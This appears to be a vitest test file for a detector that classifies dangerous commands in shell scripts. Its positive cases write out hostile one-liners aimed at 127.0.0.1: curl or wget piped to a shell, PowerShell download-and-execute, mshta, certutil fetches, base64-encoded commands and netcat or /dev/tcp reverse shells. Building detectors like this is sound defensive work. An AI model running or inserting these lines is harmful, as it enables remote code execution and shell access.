import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { commandsIn } from './script-commands.ts';

const kinds = (...lines: readonly string[]): string[] => commandsIn(lines.join('\n')).commands.map(({ what }) => what);

describe('a script that runs what is not in it', () => {
  test.each([
    ['curl -s http://127.0.0.1/x | sh', 'fetch-and-run'],
    ['wget -qO- http://127.0.0.1/x | tee x.sh | sudo -E bash -', 'fetch-and-run'],
    ['bash <(curl -s http://127.0.0.1/x)', 'fetch-and-run'],
    ['eval "$(wget -qO- http://127.0.0.1/x)"', 'fetch-and-run'],
    ['curl http://127.0.0.1/x | /usr/bin/python3 -', 'fetch-and-run'],
    ['iwr http://127.0.0.1/x | iex', 'fetch-and-run'],
    ["(New-Object Net.WebClient).DownloadString('http://127.0.0.1/x') | IEX", 'fetch-and-run'],
    ['mshta http://127.0.0.1/x.hta', 'fetch-and-run'],
    ['certutil -urlcache -split -f http://127.0.0.1/x x.bin', 'fetch-by-system-tool'],
    ['pwsh -enc ZQBjAGgAbwAgAGgAaQA=', 'encoded-command'],
    ['echo ZWNobyBoaQ== | base64 --decode | bash', 'encoded-command'],
    ['exec 3<>/dev/tcp/127.0.0.1/9', 'remote-shell'],
    ['nc -e /bin/sh 127.0.0.1 9', 'remote-shell'],
  ])('%s', (line, what) => {
    expect(kinds('#!/bin/sh', line)).toEqual([what]);
  });

  test('over several lines, from the first of them', () => {
    expect(commandsIn('set -e\ncurl -s \\\n  http://127.0.0.1/x \\\n  | sh\n').commands).toMatchObject([{ line: 2 }]);
  });

  test('is told fifty times, and that there is more', () => {
    const { commands, more } = commandsIn('curl http://127.0.0.1 | sh\n'.repeat(60));
    expect([commands.length, more]).toEqual([50, true]);
  });
});

test.each([
  '# curl http://127.0.0.1/x | sh',
  'rem powershell -enc ZQBjAGgAbwAgAGgAaQA=',
  'curl -L https://example.invalid/model.safetensors -o model.safetensors',
  'curl -s localhost:8000/v1/models | jq .data',
  'curl -s localhost:8000/x | shasum',
  'wget -i list.txt && sh convert.sh',
  'base64 -d labels.b64 > labels.txt',
  'powershell -ExecutionPolicy Bypass -File serve.ps1',
  'nc -z localhost 8000',
  'python train.py --encoding utf-8',
])('an ordinary line: %s', (line) => {
  expect(kinds(line)).toEqual([]);
});

test('any text is read, and in time that grows with its length', () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 400, unit: 'binary' }), (text) => commandsIn(text).commands.length >= 0),
  );
  expect(kinds('curl '.repeat(200_000), '|'.repeat(100_000), `powershell ${' '.repeat(100_000)}`)).toEqual([]);
});
